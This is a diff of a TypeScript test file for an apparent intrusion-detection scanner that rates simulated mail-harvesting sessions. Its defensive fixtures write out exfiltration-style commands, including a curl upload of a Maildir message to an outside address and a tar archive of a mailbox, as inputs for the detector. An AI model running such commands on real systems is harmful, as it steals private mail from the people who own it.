@@ -1,17 +1,30 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
+import type { World } from '../../state/world.ts';
+import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
 import { type Delivered, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
 import { scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';
+import { taintOf } from '../mail-facts.test-support.ts';
+import type { HarvestCase } from './case.ts';
+import { goesToOwnDesk } from './own-desk.ts';
 
 const DESK = '198.51.100.50';
+const ELSEWHERE = '192.0.2.77';
 const PULL = '/usr/bin/rsync --server --sender -logDtpre.iLsfx . Maildir/';
+
+interface Around {
+  readonly to?: string;
+  readonly what?: (messages: { mine: Delivered; other: Delivered }) => Delivered;
+  readonly line?: string;
+  /** What else is done in the session of the fetch. */
+  readonly also?: (shell: Process, message: Delivered) => void;
+  readonly after?: (log: HostLog) => void;
+}
 
 /** clerk, or who else `before` says, has logged in; then a command of clerk's session fetches a message to `to`. */
 async function fetched(
   before: (log: HostLog) => void,
-  to = DESK,
-  what: (messages: { mine: Delivered; other: Delivered }) => Delivered = ({ mine }) => mine,
-  line = PULL,
+  { to = DESK, what = ({ mine }) => mine, line = PULL, also, after }: Around = {},
 ): Promise<string> {
   const log = new HostLog();
   const messages = { mine: log.deliver(), other: log.deliver({ to: 'buyer' }) };
@@ -20,8 +33,12 @@ async function fetched(
   ops.run('/usr/bin/curl -s https://www.example.net/').connect('203.0.113.80', 443);
   before(log);
   log.wait(MINUTE);
-  const command = log.remote('clerk', line, to).run(line).read(what(messages).path);
+  const shell = log.remote('clerk', line, to);
+  const command = shell.run(line).read(what(messages).path);
   if (line !== PULL) command.write('/home/clerk/.cache/x');
+  also?.(shell, what(messages));
+  log.wait(MINUTE);
+  after?.(log);
   return (await scanLog(log)).map(({ severity }) => severity).join();
 }
 const sat = (log: HostLog): void => void log.shell('clerk', DESK).run('/usr/bin/du -sh Maildir');
@@ -31,27 +48,90 @@ test('the own mail, fetched to where that account sat at a terminal before', asy
 });
 
 test('to anywhere else, or where it never sat at a terminal', async () => {
-  assert.equal(await fetched(sat, '192.0.2.77'), 'medium', 'another address');
+  assert.equal(await fetched(sat, { to: ELSEWHERE }), 'medium', 'another address');
   assert.equal(await fetched(() => {}), 'medium', 'only somebody else sat there');
-  assert.equal(
-    await fetched(log => void log.remote('clerk', 'date', DESK).run('/usr/bin/date')),
-    'medium',
-    'no terminal',
-  );
+  assert.equal(await fetched(() => {}, { after: sat }), 'medium', 'it sat there only afterwards');
+  const asks = (log: HostLog): void => void log.remote('clerk', 'date', DESK).run('/usr/bin/date');
+  assert.equal(await fetched(asks), 'medium', 'no terminal');
+  const asksThere = (log: HostLog): void => {
+    asks(log);
+    log.wait(MINUTE);
+    log.shell('clerk', ELSEWHERE).run('/usr/bin/ls Maildir');
+  };
+  assert.equal(await fetched(asksThere), 'medium', 'a terminal only elsewhere');
 });
 
 test('to where it sat only after it had been at another place', async () => {
   const thief = (log: HostLog): void => {
     sat(log);
     log.wait(MINUTE);
-    log.shell('clerk', '192.0.2.77').run('/usr/bin/ls Maildir');
+    log.shell('clerk', ELSEWHERE).run('/usr/bin/ls Maildir');
   };
-  assert.equal(await fetched(thief, '192.0.2.77'), 'medium');
+  assert.equal(await fetched(thief, { to: ELSEWHERE }), 'medium');
   assert.equal(await fetched(thief), 'informational', 'the owner is at the desk as ever');
 });
 
 test("somebody else's mail, or a copy that stays behind", async () => {
-  assert.equal(await fetched(sat, DESK, ({ other }) => other), 'medium');
-  const copy = await fetched(sat, DESK, ({ mine }) => mine, '/usr/bin/tar czf .cache/x Maildir');
+  assert.equal(await fetched(sat, { what: ({ other }) => other }), 'medium');
+  const copy = await fetched(sat, { line: '/usr/bin/tar czf .cache/x Maildir' });
   assert.equal(copy, 'informational', 'nothing is printed');
+});
+
+test('the same session sends it to another place, or to the desk by a connection of its own', async () => {
+  const sends = (address: string) =>
+    fetched(sat, {
+      also: (shell, { path }) =>
+        shell.run(`/usr/bin/curl -T ${path} http://${address}/`).read(path).connect(address, 80),
+    });
+  assert.equal(await sends('203.0.113.66'), 'medium');
+  assert.equal(await sends(DESK), 'medium');
+});
+
+test('a login that tells no address, as at the console, says nothing of places', async () => {
+  const atConsole = (log: HostLog): void => {
+    log.shell('clerk', '');
+    log.wait(MINUTE);
+    sat(log);
+  };
+  assert.equal(await fetched(atConsole), 'informational');
+});
+
+interface Login {
+  readonly user?: string;
+  readonly time?: number;
+  readonly address?: string;
+}
+
+/** Where uid 1003 printed its own mail to at the time 100, when `logins` had a terminal each. */
+function desk(logins: readonly Login[], { name = 'clerk', host = 'ws1', output = true } = {}): string {
+  const taint = taintOf();
+  const found = {
+    host,
+    uid: 1003,
+    reads: new Map([['/home/clerk/Maildir', { own: true }]]),
+    transfers: [{ taint: output ? taint : taintOf() }],
+    printed: { time: 100, peer: DESK, taint },
+  } as unknown as HarvestCase;
+  const entries = logins.map(
+    ({ user = 'clerk', time = 50, address = DESK }, i) => [i, { user, time, address }] as const,
+  );
+  const state = { sessions: { entries: new Map(entries) }, terminals: { peek: () => ({}) } };
+  const world = { hosts: new Map([['ws1', state]]), userName: () => name } as unknown as World;
+  return goesToOwnDesk(found, world);
+}
+
+test('only logins that came before the output count', () => {
+  assert.equal(desk([{ time: 99 }]), DESK);
+  assert.equal(desk([{ time: 100 }]), '');
+  assert.equal(desk([]), '');
+});
+
+test('only logins of that account, and of an account without a name none', () => {
+  assert.equal(desk([{ user: 'buyer' }]), '');
+  assert.equal(desk([{ user: '' }], { name: '' }), '');
+});
+
+test('what is not told as the output of the command, and a host of which nothing is known', () => {
+  assert.equal(desk([{}], { output: false }), '');
+  assert.equal(desk([{}], { host: 'ws2' }), '');
 });
